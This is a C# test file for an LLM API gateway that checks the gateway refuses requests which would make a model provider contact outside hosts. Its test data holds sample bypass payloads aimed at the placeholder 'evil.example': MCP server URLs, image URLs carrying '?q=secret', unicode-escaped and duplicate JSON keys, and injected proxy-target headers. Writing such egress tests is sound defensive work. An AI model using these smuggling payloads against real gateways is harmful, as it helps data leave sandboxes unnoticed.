using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.AspNetCore.Http;

namespace Bots.Tests.Gateway;

/// <summary>What would make the provider itself reach other hosts, around the gateway.</summary>
public sealed class ModelEgressTests
{
    private const string Chat = "/llm/openai/chat/completions";
    private const string Responses = "/llm/openai/responses";
    private const string Messages = "/llm/anthropic/v1/messages";

    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    public static TheoryData<string, string> Leaving => new()
    {
        { Responses, """{"tools":[{"type":"mcp","server_label":"x","server_url":"https://evil.example"}]}""" },
        { Responses, """{"tools":[{"type":"function","type":"mcp"}]}""" },
        { Responses, """{"tools":[{"type":"mcp","type":"function"}]}""" },
        { Responses, """{"tools":[{"\u0054ype":"mc\u0070"}]}""" },
        { Responses, """{"Tools":[{"Type":"mcp"}]}""" },
        { Responses, """{"toolſ":[{"type":"mcp"}]}""" },
        { Responses, """{"tools":{"type":"mcp"}}""" },
        { Responses, """{"tools":["web_search"]}""" },
        { Responses, """{"tools":[{"type":7}]}""" },
        { Responses, """{"tools":[{"googleSearch":{}}]}""" },
        { Responses, """{"tools":[],"tools":[{"type":"web_search_preview"}]}""" },
        { Responses, """{"tools":[{"type":"web_search"}]}""" },
        { Responses, """{"tools":[{"type":"code_interpreter","container":{"type":"auto"}}]}""" },
        { Responses, """{"tools":[{"type":"file_search"}]}""" },
        { Responses, """{"tools":[{"type":"computer_use_preview"}]}""" },
        { Responses, """{"tools":[{"type":"shell","environment":{"type":"container_auto"}}]}""" },
        { Responses, """{"tools":[{"type":"namespace","name":"n","tools":[{"type":"mcp"}]}]}""" },
        { Responses, """{"input":[{"type":"tool_search_output","tools":[{"type":"mcp"}]}]}""" },
        { Responses, """{"input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/?q=secret"}]}]}""" },
        { Responses, """{"input":[{"role":"user","content":[{"type":"input_image","image_url":" HTTPS:\/\/evil.example"}]}]}""" },
        { Responses, """{"input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example/a.pdf"}]}]}""" },
        { Responses, """{"input":[{"type":"function_call_output","output":[{"type":"input_image","image_url":"http://evil.example"}]}]}""" },
        { Responses, """{"prompt":{"id":"p","variables":{"a":{"type":"input_image","image_url":"https://evil.example"}}}}""" },
        { Chat, """{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example"}}]}]}""" },
        { Chat, """{"messages":[{"role":"user","content":[{"type":"image_url","image_url":["https://evil.example"]}]}]}""" },
        { Chat, """{"messages":[{"role":"user","content":[{"type":"file","file":{"file_data":"https://evil.example"}}]}]}""" },
        { Chat, """{"messages":[{"role":"user","content":[{"type":"file","file":{"file_data":"https\u003a//evil.example"}}]}]}""" },
        { Chat, """{"messages":[{"role":"user","content":[{"type":"video_url","videoUrl":{"Url":"https://evil.example"}}]}]}""" },
        { Chat, """{"plugins":[{"id":"web"}]}""" },
        { Chat, """{"web_search_options":{}}""" },
        { Chat, """{"search_parameters":{"mode":"on"}}""" },
        { Chat, """{"extra_body":{"plugins":[{"id":"web"}]}}""" },
        { Chat, """{"models":["m:online"]}""" },
        { Messages, """{"mcp_servers":[{"type":"url","url":"https://evil.example","name":"x"}]}""" },
        { Messages, """{"tools":[{"type":"web_search_20250305","name":"web_search"}]}""" },
        { Messages, """{"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}""" },
        { Messages, """{"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}""" },
        { Messages, """{"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]}""" },
        { Messages, """{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example"}}]}]}""" },
        { Messages, """{"messages":[{"role":"user","content":[{"type":"tool_result","content":[{"type":"document","source":{"type":"url","url":"https://evil.example"}}]}]}]}""" },
        { Messages + "/count_tokens", """{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example"}}]}]}""" },
    };

    [Theory]
    [MemberData(nameof(Leaving))]
    public async Task What_the_provider_would_reach_for_the_sandbox_is_refused(string path, string body)
    {
        await using var upstream = await StubServer.Start(_ => Task.CompletedTask);
        await using var host = await Start(upstream);
        using var client = host.Client();

        using var response = await client.PostAsync(path, Json(body), Cancellation);

        response.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        var error = JsonNode.Parse(await response.Content.ReadAsStringAsync(Cancellation))!["error"]!;
        error["type"]!.GetValue<string>().ShouldBe("invalid_request_error");
        error["message"]!.GetValue<string>().ShouldContain("Models:HostedTools");
        upstream.Requests.ShouldBeEmpty();
    }

    [Theory]
    [MemberData(nameof(Leaving))]
    public async Task The_operator_can_let_the_provider_do_so(string path, string body)
    {
        await using var upstream = await StubServer.Start(context => context.Response.WriteAsync("{}"));
        await using var host = await Start(upstream, hosted: true);
        using var client = host.Client();

        using var response = await client.PostAsync(path, Json(body), Cancellation);

        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        upstream.Requests.Single().Text.ShouldBe(Whole(body));
    }

    [Theory]
    [InlineData(Responses, """{"tools":[{"type":"function","name":"f","parameters":{"type":"object","properties":{"url":{"type":"string"},"tools":{"default":[{"type":"mcp"}]}}}},{"type":"custom","name":"apply_patch"},{"type":"local_shell"},{"type":"namespace","tools":[{"type":"function"}]},{"type":"tool_search"}]}""")]
    [InlineData(Responses, """{"input":[{"role":"user","content":[{"type":"input_image","image_url":"DATA:image/png;base64,AA=="},{"type":"input_text","text":"see https://docs.example"}]}],"plugins":[],"tools":null}""")]
    [InlineData(Responses, """{"input":[{"type":"message","content":[{"type":"output_text","text":"","annotations":[{"type":"url_citation","url":"https://docs.example"}]}]}],"background":false,"metadata":{"url":"https://docs.example"}}""")]
    [InlineData(Chat, """{"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image\/png;base64,AA=="}},{"type":"file","file":{"file_data":"JVBERi0="}}]}],"tools":[{"type":"function","function":{"name":"fetch","parameters":{"url":{"default":"https://docs.example"}}}}]}""")]
    [InlineData(Messages, """{"tools":[{"name":"WebFetch","input_schema":{"properties":{"url":{"examples":["https://docs.example"]}}}},{"type":"custom","name":"a"},{"type":null,"name":"b"},{"type":"bash_20250124"},{"type":"text_editor_20250728"},{"type":"memory_20250818"},{"type":"computer_20250124"}],"mcp_servers":[]}""")]
    [InlineData(Messages, """{"messages":[{"role":"assistant","content":[{"type":"tool_use","input":{"url":"https://docs.example","tools":[{"type":"mcp"}]}}]},{"role":"user","content":[{"type":"image","source":{"type":"base64","data":"AA=="}}]}]}""")]
    public async Task What_stays_between_caller_and_model_passes_as_it_is(string path, string body)
    {
        await using var upstream = await StubServer.Start(context => context.Response.WriteAsync("{}"));
        await using var host = await Start(upstream);
        using var client = host.Client();

        using var response = await client.PostAsync(path, Json(body), Cancellation);

        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        upstream.Requests.Single().Text.ShouldBe(Whole(body));
    }

    [Theory]
    [InlineData(64, HttpStatusCode.OK, "")]
    [InlineData(65, HttpStatusCode.BadRequest, "nested deeper than 64 levels")]
    [InlineData(1_000_000, HttpStatusCode.BadRequest, "nested deeper than 64 levels")]
    public async Task A_body_nested_too_deeply_is_refused_as_that(int levels, HttpStatusCode status, string words)
    {
        await using var upstream = await StubServer.Start(context => context.Response.WriteAsync("{}"));
        await using var host = await Start(upstream);
        using var client = host.Client();

        using var response = await client.PostAsync(Responses, Json($$"""{"input":{{new string('[', levels - 1)}}{{new string(']', levels - 1)}}}"""), Cancellation);

        response.StatusCode.ShouldBe(status);
        (await response.Content.ReadAsStringAsync(Cancellation)).ShouldContain(words);
    }

    [Fact]
    public void A_large_body_of_small_values_is_read_in_little_more_room_than_its_own()
    {
        var body = Encoding.UTF8.GetBytes($$"""{"model":"m","input":[{{string.Join(',', Enumerable.Repeat("1", 1_000_000))}}]}""");
        var before = GC.GetAllocatedBytesForCurrentThread();

        Bots.Gateway.ModelRequest.Read(body, Engine.Models.ModelKind.OpenAI, mustAskForUsage: false).Model.ShouldBe("m");

        (GC.GetAllocatedBytesForCurrentThread() - before).ShouldBeLessThan(100_000);
    }

    [Fact]
    public async Task The_provider_reads_the_letters_the_gateway_read()
    {
        await using var upstream = await StubServer.Start(context => context.Response.WriteAsync("{}"));
        await using var host = await Start(upstream);
        using var client = host.Client();
        client.DefaultRequestHeaders.Add("X-Portkey-Custom-Host", "https://evil.example");
        client.DefaultRequestHeaders.Add("Helicone-Target-Url", "https://evil.example");
        using var content = Json("{}");
        content.Headers.Remove("Content-Type");
        content.Headers.TryAddWithoutValidation("Content-Type", "application/json; charset=utf-7");

        using var response = await client.PostAsync(Responses, content, Cancellation);

        var sent = upstream.Requests.Single().Headers;
        sent["Content-Type"].ShouldBe("application/json");
        sent.Values.ShouldAllBe(value => !value.Contains("evil"));
    }

    private static Task<GatewayHost> Start(StubServer upstream, bool hosted = false)
    {
        var settings = ModelSettings.For(upstream.Url, "sk-1", "sk-2");
        if (hosted) settings["Models:HostedTools"] = "true";
        return GatewayHost.Start(settings);
    }

    private static string Whole(string body) => body == "{}" ? """{"model":"m"}""" : """{"model":"m",""" + body[1..];

    private static StringContent Json(string body) => new(Whole(body), Encoding.UTF8, "application/json");
}
